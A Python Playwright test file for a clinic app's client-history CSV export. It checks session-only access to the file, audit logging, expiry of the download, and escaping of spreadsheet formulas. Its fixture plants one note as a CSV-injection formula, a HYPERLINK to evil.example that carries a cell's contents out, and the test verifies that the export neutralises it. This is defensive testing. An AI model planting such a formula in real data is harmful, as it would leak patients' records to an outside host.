"""The record's export in a real browser: opening the Export tab builds nothing (no audit row, no /media
URL in the page); pressing the button downloads the history, escaped, with exactly one audit row; the
file's /media URL is refused at once to a request without the browser's session cookie (server.py), and
is gone some seconds later even for the browser that pressed (ui/exports.py). Tables offer no
"Download as CSV" of their own."""

from __future__ import annotations

import csv
import io
import re
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from logic.auth import accounts, audit
from logic.settings import ClinicSettings
from logic.storage import open_storage
from tests.browser.browser_support import settled, sign_in

USER, PASSWORD = "thera", "therapist pass 1"
NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
MEDIA_URL = re.compile(r"(?<!/static)/media/[0-9a-f]")  # Streamlit's media files (its fonts are in /static/media)
REFUSED = 403  # server.py's answer to a /media request without a valid session (a file gone is 404)
GONE_WITHIN_S = 60  # the app drops the file 10 s after it was built (ui/exports.py); a loaded machine is slow


@pytest.fixture
def clinic(tmp_path: Path) -> tuple[Path, int]:
    """A clinic database: one therapist, one client with two sessions, one note a spreadsheet formula."""
    data = tmp_path / "clinic"
    with open_storage(f"sqlite:///{data}/reaktionsguide.db", ClinicSettings(data_dir=data)) as store:
        accounts.create_user(store, USER, PASSWORD, "therapist")
        client = store.create_client({"name": "Eva Eksport", "birth_year": 1970, "consent_health_data": True})
        for day, note in ((1, "Spændt trapezius"), (8, NOTE)):
            store.add_session(client.id, {
                "date": f"2026-03-{day:02d}", "treatment": "trigger_point_therapy", "duration_min": 45,
                "pressure": 5, "pain_before": 6, "pain_after": 4, "regions": ["neck_back"], "note": note,
            })  # fmt: skip
    return data, client.id


def exports(data: Path) -> list[audit.Entry]:
    with open_storage(f"sqlite:///{data}/reaktionsguide.db", ClinicSettings(data_dir=data)) as store:
        return [e for e in audit.entries(store.engine, limit=1000) if e.action == audit.EXPORT_CLIENT]


def open_record(page: Page, tab: str) -> None:
    """The only client's record, through the app's links (a new page load would be a new session)."""
    page.get_by_role("link", name="Clients").click()
    settled(page)
    page.get_by_role("link", name="Open record").click()
    settled(page)
    page.get_by_role("tab", name=tab).click()
    settled(page)


def fetch_status(url: str) -> int:
    """A fresh request, without the browser's cookies or session."""
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def test_export_is_built_on_the_press_for_its_session_only(streamlit_server_factory, clinic, page: Page) -> None:
    data, client_id = clinic
    server = streamlit_server_factory({"REAKTIONSGUIDE_DATA_DIR": str(data)})
    media: list[str] = []
    page.on(
        "request", lambda request: media.append(request.url) if request.url.startswith(f"{server}/media/") else None
    )
    sign_in(page, server, USER, PASSWORD)

    open_record(page, "Export")
    button = page.get_by_role("button", name="Download the history (CSV)")
    expect(button).to_be_visible(timeout=30_000)
    page.get_by_role("tab", name="Sessions").click()  # and back: the tab opened twice
    settled(page)
    page.get_by_role("tab", name="Export").click()
    settled(page)
    expect(button).to_be_visible()
    assert exports(data) == []
    assert not MEDIA_URL.search(page.content()) and media == []

    with page.expect_download(timeout=30_000) as download_info:
        button.click()
    download = download_info.value
    [url] = set(media)
    assert fetch_status(url) == REFUSED  # right after the press, while the file is still stored
    text = Path(download.path()).read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["note"] for r in rows] == ["Spændt trapezius", "'" + NOTE]
    [row] = exports(data)
    assert (row.actor, row.client_id, row.detail) == (USER, client_id, {"format": "csv", "content": "history"})
    settled(page)
    assert len(exports(data)) == 1  # the press reran nothing that exports again

    deadline = time.monotonic() + GONE_WITHIN_S  # with the browser's own cookie: the file is dropped soon
    while (status := page.request.get(url).status) == 200 and time.monotonic() < deadline:
        time.sleep(0.5)
    assert status == 404, f"{url} still served after {GONE_WITHIN_S} s"
    assert len(exports(data)) == 1


def test_tables_offer_no_download_of_their_own(streamlit_server_factory, clinic, page: Page) -> None:
    data, _ = clinic
    server = streamlit_server_factory({"REAKTIONSGUIDE_DATA_DIR": str(data)})
    sign_in(page, server, USER, PASSWORD)
    open_record(page, "Sessions")
    table = page.locator('[data-testid="stDataFrame"]').first
    expect(table).to_be_visible(timeout=30_000)
    table.hover()
    toolbar = page.locator('[data-testid="stElementToolbar"]').first
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()  # the toolbar is there ...
    assert toolbar.get_by_role("button", name="Download as CSV").count() == 0  # ... without the download
